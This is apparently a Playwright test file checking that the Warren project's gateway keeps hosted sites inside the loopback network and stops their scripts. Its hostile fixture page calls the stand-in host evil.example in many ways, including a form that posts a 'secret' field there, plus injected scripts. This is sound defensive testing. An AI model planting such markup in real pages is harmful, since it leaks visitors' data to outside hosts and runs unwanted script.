/**
 * The gateway in a real browser: Debian's Chromium, driven by playwright-core, reads sites inserted
 * into a loopback network of real `warren node` processes through one node's gateway. Every request
 * the browser makes is recorded (and any leaving 127.0.0.1 is refused before it reaches the network).
 * Screenshots go to artifacts/ (or $WARREN_ARTIFACTS).
 */
import assert from 'node:assert/strict';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { type Browser, type BrowserContext, chromium, type Page } from 'playwright-core';
import { fetchStatus } from '../../node/app/api/client.js';
import { localEndpoint } from '../../node/app/cli/endpoint.js';
import { type LoopbackNetwork, startLoopbackNetwork, warren } from '../support/client-network.js';
import { solidPng } from '../support/png.js';
import { eventually, HANG_GUARD_MS } from '../support/until.js';

const CHROMIUM = '/usr/bin/chromium';
const ARTIFACTS = process.env.WARREN_ARTIFACTS ?? fileURLToPath(new URL('../../artifacts/', import.meta.url));

const FRIENDLY: Record<string, string | Uint8Array> = {
  'index.html':
    '<!DOCTYPE html><html><head><title>A freesite</title><link rel="stylesheet" href="style.css"></head><body>' +
    '<h1 id="title">Welcome to a freesite</h1><p>Served by Warren, read in a browser.</p><img id="logo" src="img/logo.png" alt="logo">' +
    '<p><a id="to-sub" href="sub/page.html">A page in a sub-directory</a></p></body></html>',
  'style.css': 'h1{color:rgb(0,128,0)} body{background:url(img/bg.png) repeat-x;font-family:sans-serif} img{width:64px;height:64px}',
  'img/logo.png': solidPng(16, 16, [200, 30, 30]),
  'img/bg.png': solidPng(4, 40, [230, 230, 255]),
  'sub/page.html':
    '<!DOCTYPE html><html><head><title>Sub page</title><link rel="stylesheet" href="../style.css"></head><body>' +
    '<h1 id="sub-title">A page in sub/</h1><img id="again" src="../img/logo.png" alt="logo"><p><a id="home" href="../index.html">Back</a></p></body></html>',
};

/** Every way the issue names for a page to reach outside, and every way to run a script; each would set the title or call home. */
const HOSTILE: Record<string, string | Uint8Array> = {
  'index.html': `<!DOCTYPE html><html><head><title>hostile</title>
<meta http-equiv="refresh" content="0; url=http://evil.example/refresh">
<link rel="stylesheet" href="http://evil.example/outside.css">
<link rel="stylesheet" href="style.css">
<link rel="prefetch" href="http://evil.example/prefetch">
<link rel="dns-prefetch" href="//evil.example">
<style>@import "http://evil.example/import.css"; h1{background:url(http://evil.example/css-url.png)} h1{color:rgb(0,0,255)}</style>
<script>document.title = 'pwned'; fetch('/ran-inline-script');</script>
<script src="http://evil.example/external.js"></script>
<script src="evil.js"></script>
</head><body background="http://evil.example/body-background.png" onload="document.title='pwned'">
<h1 id="title">Hostile page</h1>
<img id="outside" src="http://evil.example/image.png">
<img id="inside" src="ok.png" srcset="http://evil.example/srcset.png 2x" onerror="document.title='pwned'">
<img src="missing.png" onerror="document.title='pwned'; fetch('/ran-onerror')">
<div style="background:url(http://evil.example/style-attribute.png);width:10px;height:10px"></div>
<svg width="20" height="20"><script>document.title='pwned'</script><image href="http://evil.example/svg-image.png"/></svg>
<img id="svg" src="drawing.svg">
<iframe src="http://evil.example/frame"></iframe>
<object data="http://evil.example/object"></object>
<embed src="http://evil.example/embed">
<video poster="http://evil.example/poster.png" src="http://evil.example/video.mp4"></video>
<a id="out" href="http://evil.example/link" ping="http://evil.example/ping">a link out</a>
<form id="form" action="http://evil.example/form" method="post"><input name="secret" value="s"><button id="send">Send</button></form>
</body></html>`,
  'style.css': '@import url(http://evil.example/css-import.css); p{background:url(//evil.example/css-file-url.png)} body{background:url(ok.png)}',
  'evil.js': "document.title = 'pwned'; fetch('/ran-in-network-script');",
  'drawing.svg':
    '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>document.title="pwned"</script>' +
    '<image href="http://evil.example/in-svg.png"/></svg>',
  'ok.png': solidPng(8, 8, [0, 160, 0]),
};

async function writeSite(root: string, files: Record<string, string | Uint8Array>): Promise<string> {
  for (const [path, content] of Object.entries(files)) {
    await mkdir(dirname(join(root, path)), { recursive: true });
    await writeFile(join(root, path), content);
  }
  return root;
}

interface Recorded {
  readonly requests: string[];
  readonly outside: string[];
}

/** A fresh browser context whose every request is recorded; one leaving 127.0.0.1 is refused (recorded as outside). */
async function recordingContext(browser: Browser, options: { withoutCsp?: boolean } = {}): Promise<{ context: BrowserContext; recorded: Recorded }> {
  const context = await browser.newContext({ viewport: { width: 900, height: 600 } });
  const recorded: Recorded = { requests: [], outside: [] };
  context.on('request', (request) => recorded.requests.push(request.url()));
  await context.route('**/*', async (route) => {
    const url = new URL(route.request().url());
    if (url.hostname !== '127.0.0.1') {
      recorded.outside.push(url.href);
      return route.abort();
    }
    if (options.withoutCsp !== true) return route.continue();
    // The filter alone, without the browser enforcing the gateway's Content-Security-Policy.
    const response = await route.fetch();
    const headers = { ...response.headers() };
    delete headers['content-security-policy'];
    return route.fulfill({ response, headers });
  });
  return { context, recorded };
}

/** Evaluated in the page (this project's TypeScript has no DOM types). */
const colourOf = (page: Page, selector: string): Promise<unknown> =>
  page.evaluate(`getComputedStyle(document.querySelector(${JSON.stringify(selector)})).color`);
const naturalWidthOf = (page: Page, selector: string): Promise<unknown> => page.evaluate(`document.querySelector(${JSON.stringify(selector)}).naturalWidth`);

/**
 * Opens a gateway page, past any progress page, until `selector` is there. A failure page (a fetch
 * that timed out on a loaded machine, say) is reloaded, as a reader would: what is tested is what the
 * page does once it is there. Each failure is printed.
 */
async function open(page: Page, url: string, selector: string): Promise<void> {
  await page.goto(url);
  await eventually(
    `${selector} at ${url}`,
    async () => {
      if ((await page.$(selector)) !== null) return true;
      if ((await page.$('form[action="/open"]')) !== null && (await page.$('progress')) === null) {
        console.warn(`gateway failure page, reloading: ${await page.textContent('body')}`);
        await page.goto(url);
      }
      return undefined;
    },
    { pollMs: 250 },
  );
  await page.waitForLoadState('load');
}

describe('the gateway in Chromium (six nodes on loopback)', function () {
  // A hang guard: node processes and the browser start slowly on a loaded machine.
  this.timeout(600_000);
  let root: string;
  let network: LoopbackNetwork | undefined;
  let browser: Browser | undefined;
  let gateway: string;
  let friendly: string;
  let hostile: string;

  before(async () => {
    root = await mkdtemp(join(tmpdir(), 'warren-gateway-browser-'));
    await mkdir(ARTIFACTS, { recursive: true });
    network = await startLoopbackNetwork(join(root, 'nodes'), 6);
    const put = async (files: Record<string, string | Uint8Array>, name: string): Promise<string> => {
      const run = await warren('put', await writeSite(join(root, name), files), '--data-dir', network!.dirs[1]!, '--json');
      assert.equal(run.code, 0, run.stderr);
      return (JSON.parse(run.stdout) as { uri: string }).uri;
    };
    friendly = await put(FRIENDLY, 'friendly');
    hostile = await put(HOSTILE, 'hostile');
    const status = await fetchStatus(await localEndpoint(network.dirs[2]!));
    assert.match(status.gateway ?? '', /^http:\/\/127\.0\.0\.1:\d+\/$/);
    gateway = status.gateway!;
    browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] });
  });

  after(async () => {
    await browser?.close();
    await network?.stop();
    await rm(root, { recursive: true, force: true });
  });

  it('browses a site: its index page, stylesheet and images, a click into a sub-directory and back', async () => {
    const { context, recorded } = await recordingContext(browser!);
    const page = await context.newPage();
    await open(page, `${gateway}${friendly}/`, '#title');
    assert.equal(await page.title(), 'A freesite');
    assert.equal(await colourOf(page, '#title'), 'rgb(0, 128, 0)');
    assert.equal(await naturalWidthOf(page, '#logo'), 16);
    await page.screenshot({ path: join(ARTIFACTS, 'gateway-freesite.png') });

    await page.click('#to-sub');
    await page.waitForSelector('#sub-title', { timeout: HANG_GUARD_MS });
    await page.waitForLoadState('load');
    assert.ok(page.url().endsWith(`${friendly}/sub/page.html`), page.url());
    assert.equal(await naturalWidthOf(page, '#again'), 16);
    await page.screenshot({ path: join(ARTIFACTS, 'gateway-freesite-sub.png') });
    await page.click('#home');
    await page.waitForSelector('#title', { timeout: HANG_GUARD_MS });

    assert.deepEqual(recorded.outside, []);
    assert.ok(
      recorded.requests.some((url) => url.endsWith('/img/bg.png')),
      'the stylesheet background loaded',
    );
    await context.close();
  });

  for (const withoutCsp of [false, true]) {
    it(`keeps a hostile site inside: zero requests leave 127.0.0.1 and no script runs${withoutCsp ? ' (the filter alone, CSP taken off)' : ''}`, async () => {
      const { context, recorded } = await recordingContext(browser!, { withoutCsp });
      const page = await context.newPage();
      await open(page, `${gateway}${hostile}/`, '#title');
      // The page's in-network parts render: its stylesheet and image.
      assert.equal(await colourOf(page, '#title'), 'rgb(0, 0, 255)');
      assert.equal(await naturalWidthOf(page, '#inside'), 8);
      assert.equal(await page.title(), 'hostile', 'a script ran');
      // The form posting outside was unwrapped: its button sends nothing anywhere.
      await page.click('#send');
      await page.screenshot({ path: join(ARTIFACTS, `gateway-hostile${withoutCsp ? '-without-csp' : ''}.png`) });
      await page.click('#out');
      await page.waitForSelector('text=You are leaving Warren', { timeout: HANG_GUARD_MS });

      assert.deepEqual(recorded.outside, []);
      const origin = new URL(gateway).origin;
      assert.deepEqual(
        recorded.requests.filter((url) => !url.startsWith(`${origin}/`)),
        [],
      );
      assert.deepEqual(
        recorded.requests.filter((url) => url.includes('/ran-')),
        [],
        'a script ran',
      );
      assert.ok(!recorded.requests.some((url) => url.endsWith('/evil.js')), 'the in-network script was not even loaded');
      await context.close();
    });
  }

  it('shows the dashboard, live: its figures change without a reload, and nothing leaves 127.0.0.1', async () => {
    const { context, recorded } = await recordingContext(browser!);
    const page = await context.newPage();
    await page.goto(gateway);
    await page.waitForSelector('#live:has-text("live: updated")', { timeout: HANG_GUARD_MS });
    assert.match(String(await page.textContent('#peer-count')), /^[1-9]\d*$/);
    const before = await page.textContent('#counter-requests');
    await page.evaluate('window.sameDocument = true');
    // A fetch through the gateway from elsewhere: the node's counters move, and the open page shows it.
    const listing = await fetch(`${gateway}${friendly}/sub/`, { headers: { accept: 'text/html' } });
    assert.equal(listing.status, 200);
    // Polled from here: the page's policy forbids the string evaluation waitForFunction would use.
    await eventually('the dashboard to show the new counters', async () => ((await page.textContent('#counter-requests')) !== before ? true : undefined), {
      pollMs: 200,
    });
    assert.equal(await page.evaluate('window.sameDocument'), true, 'the page was reloaded');
    await page.screenshot({ path: join(ARTIFACTS, 'gateway-dashboard.png'), fullPage: true });
    assert.deepEqual(recorded.outside, []);
    assert.ok(recorded.requests.some((url) => url.endsWith('/dashboard.json')));
    await context.close();
  });

  it('sees the leaks when nothing is filtered (the recorder can fail)', async () => {
    const { context, recorded } = await recordingContext(browser!);
    const page = await context.newPage();
    // The hostile page as written, outside the gateway's filter and policy: it leaks, and its scripts run.
    await page.setContent(HOSTILE['index.html'] as string, { waitUntil: 'load' });
    for (const leak of ['image.png', 'external.js', 'outside.css']) assert.ok(recorded.outside.includes(`http://evil.example/${leak}`), leak);
    const scripted = await context.newPage();
    await scripted.setContent('<title>hostile</title><img src=missing.png onerror="document.title=\'pwned\'">', { waitUntil: 'load' });
    assert.equal(await scripted.title(), 'pwned');
    await context.close();
  });
});
